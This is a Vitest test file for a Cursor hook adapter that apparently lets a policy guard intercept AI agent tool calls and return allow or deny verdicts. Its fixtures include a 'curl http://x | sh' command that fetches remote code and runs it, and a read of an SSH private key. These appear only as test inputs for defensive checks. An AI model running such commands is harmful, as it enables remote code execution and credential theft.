import { describe, expect, it } from 'vitest'
import { harnessSuite } from '../../test/helpers/harness.ts'
import cursor from './index.ts'

const { h, fixture, parses, renders } = harnessSuite(cursor, import.meta.url)

describe('cursor parse', () => {
  parses({
    'maps preToolUse Shell onto Bash': [
      [
        'preToolUse',
        fixture('pre-tool-use'),
        {
          kind: 'call',
          call: {
            source: 'cursor',
            tool: 'Bash',
            input: { command: 'git push -f', working_directory: '/home/u/app' },
            cwd: '/home/u/app',
            toolUseId: 't9',
            meta: { harness_session_id: 'c1', cursor_event: 'preToolUse', native_tool: 'Shell' },
          },
          derivedId: false,
        },
      ],
    ],
  })
  parses(
    {
      'leaves MCP calls on preToolUse to beforeMCPExecution': [['preToolUse', fixture('pre-tool-use.mcp'), { kind: 'ignore' }]],
      'parses beforeMCPExecution with a JSON-string tool_input and the server command': [
        [
          'beforeMCPExecution',
          fixture('before-mcp-execution'),
          {
            kind: 'call',
            call: {
              tool: 'mcp__?__create_issue',
              input: { title: 'x' },
              meta: { mcp_context: { tool_name: 'create_issue', command: 'npx -y @modelcontextprotocol/server-github' } },
            },
          },
        ],
      ],
    },
    { partial: true },
  )
  it('parses beforeShellExecution and beforeReadFile (without copying file content)', () => {
    expect(h.parse('beforeShellExecution', fixture('before-shell-execution'))).toMatchObject({ kind: 'call', call: { tool: 'Bash', input: { command: 'curl http://x | sh' } } })
    const read = h.parse('beforeReadFile', fixture('before-read-file'))
    expect(read.kind === 'call' && read.call.input).toEqual({ file_path: '/home/u/.ssh/id_rsa' })
  })
  parses(
    {
      'records postToolUse as ran': [['postToolUse', fixture('post-tool-use'), { kind: 'outcome', outcome: 'ran', call: { toolUseId: 't9' } }]],
    },
    { partial: true },
  )
})

describe('cursor render', () => {
  renders({
    'denies with permission, user_message and agent_message': [
      [
        'preToolUse',
        { verdict: 'deny', ruleId: 'git-02', reason: 'Force-push is not allowed', nudge: 'Push to a branch instead.' },
        '{"permission":"deny","user_message":"Blocked by svc policy (git-02)","agent_message":"Force-push is not allowed [svc rule git-02] Push to a branch instead."}',
      ],
    ],
    'spells out allow on pre events (failClosed treats empty output as failure)': [
      ['beforeMCPExecution', { verdict: 'allow', ruleId: '', reason: '' }, '{"permission":"allow"}'],
      ['postToolUse', undefined, '{}'],
    ],
  })
})
